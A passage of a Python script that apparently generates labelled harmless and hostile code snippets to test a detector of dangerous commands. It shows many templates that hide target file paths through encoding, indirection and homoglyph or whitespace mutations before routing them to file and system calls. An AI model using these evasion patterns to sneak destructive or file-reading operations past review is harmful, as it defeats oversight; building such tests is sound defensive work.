            "$N($X).get()"), ("class $N:\n    def __init__(self, v): self.v = v\n    def again(self, v): return type(self)(v)", "$N('b.txt').again($X).v"), ("class $N:\n    def __init__(self, v): self.v = v\n    @classmethod\n    def make(cls, v): return cls(v)\n$N('b.txt')", "$N.make($X).v"),
    ("class $N:\n    def __init__(self, v): self.v = v\n$M = $N('b.txt')\n$M.__init__($X)",
            "$M.v"), ("class $N:\n    v = 'b.txt'\n    def get(self): return self.v\nclass $M: pass\n$M.v = $X", "$N.get($M)"), ("class $N:\n    v = 'b.txt'\n    def get(self): return self.v\nclass $M($N):\n    v = $X", "$M().get()"), ("class $N:\n    def __init__(self): self.__v = 'b.txt'\n    def get(self): return self.__v\n$M = $N()\n$M._$N__v = $X", "$M.get()"),
    ("class $N:\n    v = 'b.txt'\nfor $N.v in [$X]: pass",
            "$N.v"), ("class $N:\n    v = 'b.txt'\n$N.v, $M = $X, 1", "$N.v"), ("class $N:\n    v = $X\n    def __init__(self): self.v = 'b.txt'\n$M = $N()\ndel $M.v", "$M.v"), ("class $N:\n    def __get__(self, o, t): return $X\nclass $M:\n    v = $N()", "$M.v"), ("class $N:\n    def __new__(cls, *a): return $X", "$N()"),
    ("def $N(): return 'b.txt'\ndef $M():\n    global $N\n    $N = lambda: $X\n$M()",
            "$N()"), ("def $N(v='b.txt'): return v\n$N.__defaults__ = ($X,)", "$N()"), ("def $N(n):\n    if n: return $X\n    return 'b.txt'", "$N(1)"), ("def $N():\n    try: return 'b.txt'\n    finally: return $X", "$N()"), ("def $N():\n    yield $X\n    return 'b.txt'", "list($N())[0]"), ("def $N(l=['b.txt']): return l\n$N()[0] = $X", "$N()[0]"),
    ("$N = {'k': 'b.txt'}\n$N['k'] = $X", "$N['k']"), ("$N = {'k': 'b.txt'}\n$M = $N\n$M['k'] = $X",
            "$N['k']"), ("$N = {'k': 'b.txt'}\n$N |= {'k': $X}", "$N['k']"), ("$N = {'k': 'b.txt'}\nfor $N['k'] in [$X]: pass", "$N['k']"), ("$N = {'k': 'b.txt'}", "$N.get('z', $X)"), ("$N = {1: 'b.txt', True: $X}", "$N[1]"), ("$N = {'k': 'b.txt', 'z': $X}", "[v for v in $N.values()][1]"), ("$N = {'k': ['b.txt']}\nfor $M in $N.values(): $M[0] = $X", "$N['k'][0]"),
    ("$N = ['b.txt']\nclass $M:\n    def __eq__(self, o): o[0] = $X\n$N == $M()",
            "$N[0]"), ("$N = ['b.txt']\nclass $M:\n    def __radd__(self, o): o[0] = $X\n$N + $M()", "$N[0]"), ("$N = ['b.txt']\nclass $M:\n    def join(self, o): o[0] = $X\n$M().join($N)", "$N[0]"), ("$N = ['b.txt']\ndef $M(): len($N)\ndef len(o): o[0] = $X\n$M()", "$N[0]"), ("$N = ['b.txt']\nmatch $N:\n    case $M: $M[0] = $X", "$N[0]"),
    ("class $N:\n    def __neg__(self): return $X",
            "(-$N())"), ("class $N:\n    def __eq__(self, o): return $X", "($N() == 1)"), ("class $N:\n    def __abs__(self): return $X", "abs($N())"), ("class $N:\n    def __reversed__(self): return $X", "reversed($N())"), ("", "sum([], $X) if 0 else $X"),
    ("$N = {'k': [0]}\n$N['k'][0] = $X", "$N['k'][0]"), ("$N = [[0]] * 2\n$N[0][0] = $X",
            "$N[1][0]"), ("$N = [0, 0]\n$N[:] = [$X, 1]", "$N[0]"), ("$N = [1, $X]\ndel $N[0]", "$N[0]"), ("$N = [$X, 1]\n$N.reverse()", "$N[1]"), ("$N = [1]\n$M = $N.copy()\n$M[0] = $X", "$M[0]"), ("$N = $M = []\n$N.append($X)", "$M[0]"), ("($N := []).append($X)", "$N[0]"), ("$N = None\ndef $M():\n    global $N\n    $N = $X\n[$M()]", "$N"),
]


class Names:
    def __init__(self, rng):
        self.rng, self.n = rng, 0

    def fresh(self):
        self.n += 1
        return self.rng.choice(WORDS[:8]) + ("%d" % self.n if self.rng.random() < 0.9 else "_é%d" % self.n)


def fill(rng, names, template, **values):
    text = template
    for key in ("N", "M"):
        if "$" + key in text:
            values[key] = names.fresh()
    for key, value in values.items():
        text = text.replace("$" + key, value)
    return text


def pair(rng, names, row, **values):
    """A prelude and an expression that share their fresh names."""
    both = fill(rng, names, row[0] + "\0" + row[1], **values)
    return both.split("\0")


def value(rng, names):
    """(prelude, expression) for a path."""
    p = rng.choice(PATHS)
    k = rng.randrange(1, len(p))
    row = rng.choice(VALUES) if rng.random() < 0.6 else ("", "'$p'")
    b = base64.b64encode(p.encode()).decode()
    return wrap(rng, names, *pair(rng, names, row, p=p, q=p[:k], r=p[k:], v=p[::-1], x=p.encode().hex(),
            o=", ".join(str(ord(c)) for c in p) + ",", b=b))


def wrap(rng, names, prelude, expr):
    """The expression on its way through other places, each of which sees the one before."""
    while rng.random() < 0.4:
        row = rng.choice(WRAPS)
        if "\n" in expr:
            break
        before, expr = pair(rng, names, row, X=expr)
        prelude = "\n".join(x for x in (prelude, before) if x)
    return prelude, expr


def call(rng, names):
    """(prelude, expression) with an effect."""
    if rng.random() < 0.35:
        text = rng.choice(EFFECTS)
        modules = sorted({m for m in ROOTS if re.search(r"(?<![\w.'\"])%s[.,)]" % re.escape(m), text)})
        before, expr = value(rng, names) if "$P" in text else ("", "")
        prelude = "".join("import %s\n" % m for m in modules) + before
        return prelude, text.replace("$P", "(%s)" % expr)
    module, name, more = rng.choice(SINKS)
    row = rng.choice(FUNCTIONS) if rng.random() < 0.8 else FUNCTIONS[0]
    if module == "pathlib.Path":
        pre, f = "from pathlib import Path", "Path.%s" % name
        first, arg = value(rng, names)
        if rng.random() < 0.7:
            return "\n".join((pre, first)), "Path(%s).%s(%s)" % (arg, name, more[2:])
        return "\n".join((pre, first)), "%s(Path(%s)%s)" % (f, arg, more)
    k = len(name) // 2
    pre, f = pair(rng, names, row, m=module, f=name, g=name[:k], h=name[k:])
    pre, f = wrap(rng, names, pre, f)
    first, arg = value(rng, names)
    if "os.O_" in more:
        pre = "import os\n" + pre
    return "\n".join(x for x in ((first, pre) if rng.random() < 0.5 else (pre, first)) if x), "%s(%s%s)" % (f,
            arg, more)


ROOTS = ["os", "sys", "shutil", "subprocess", "pathlib", "functools", "operator", "urllib.request", "socket",
        "http.client", "json", "asyncio", "pty", "tempfile", "glob", "multiprocessing", "threading", "webbrowser", "runpy", "ctypes",
         "py_compile", "csv", "zipfile", "signal", "pickle", "logging", "unittest.mock", "pdb", "timeit", "cProfile", "code", "types", "codecs", "re", "importlib", "itertools", "collections", "atexit", "weakref", "io", "_io", "array",
         "concurrent.futures", "contextlib", "inspect", "copy", "platform", "random", "tarfile", "multiprocessing.util", "typing", "string", "sqlite3", "tracemalloc"]


def indent(text, by="    "):
    return "\n".join(by + l if l else l for l in text.split("\n"))


def block(rng, names):
    prelude, expr = call(rng, names)
    context = fill(rng, names, rng.choice(CONTEXTS) if rng.random() < 0.6 else "$E", E=expr)
    text = prelude + "\n" + context if prelude else context
    if rng.random() < 0.15:
        text = "try:\n%s\nexcept Exception:\n    pass" % indent(text)
    elif rng.random() < 0.1:
        name = names.fresh()
        text = "def %s():\n%s\n%s()" % (name, indent(text), name)
    return text


def mutate(rng, text):
    """A small change of the text: what is then still a program must still be read rightly."""
    if len(text) < 3:
        return text
    i = rng.randrange(len(text) - 1)
    return rng.choice([
        lambda: text[:i] + text[i + 1:], lambda: text[:i] + rng.choice("()[]{}'\"\\#;:\n\t ,.=*@!%") + text[
                i:], lambda: text[:i] + rng.choice([" ", "\\\n", "\x0c", "\u00a0", "\t", "\r", "\n"]) + text[i:],
        lambda: text.replace("    ", "\t"), lambda: text.replace("\n", "\r\n"), lambda: text.replace("os",
                "ｏs"), lambda: text.replace(".", " . "), lambda: text.replace("(", " (\n").replace("def ", "def ") if "def" not in text else text,
        lambda: text.replace("'", '"'), lambda: "\ufeff" + text, lambda: text + "\n#", lambda: "if 1:\n" + indent(text, " "), lambda: text.replace("remove", "unlink"),
    ])()


def make(seed, number):
    rng = random.Random("%s/py/%d" % (seed, number))
    names = Names(rng)
    kind = rng.random()
    if kind < 0.3:
        klass = "harmless"
        code = "\n".join(rng.sample(HARMLESS_LINES, rng.choice([1, 1, 1, 2, 3])))
    elif kind < 0.5:
        klass = "state"
        code = rng.choice(STATE)
        if rng.random() < 0.3:
            code += "\n" + rng.choice(STATE)
        if rng.random() < 0.2:
            code = mutate(rng, code)
    else:
        klass = "hostile"
        parts = [block(rng, names) for _ in range(rng.choice([1, 1, 1, 2]))]
        if rng.random() < 0.25:
            parts.insert(rng.randrange(len(parts) + 1), rng.choice(HARMLESS_LINES))
        code = "\n".join(parts)
        if rng.random() < 0.1:
            code = mutate(rng, code)
    code = code.replace("\0", "")
    form = rng.choice(["-c"] * 8 + ["-Ic", "here"])
    if form == "here" and ("\r" in code or "input()" in code or "stdin" in code):
        form = "-c"
    return {"lang": "python", "class": klass, "code": code, "form": form, "shell": "bash", "id": number}


if __name__ == "__main__":
    import sys
    for n in range(int(sys.argv[2])):
        print("%% %d %s\n%s" % (n, make(sys.argv[1], n)["class"], make(sys.argv[1], n)["code"]))
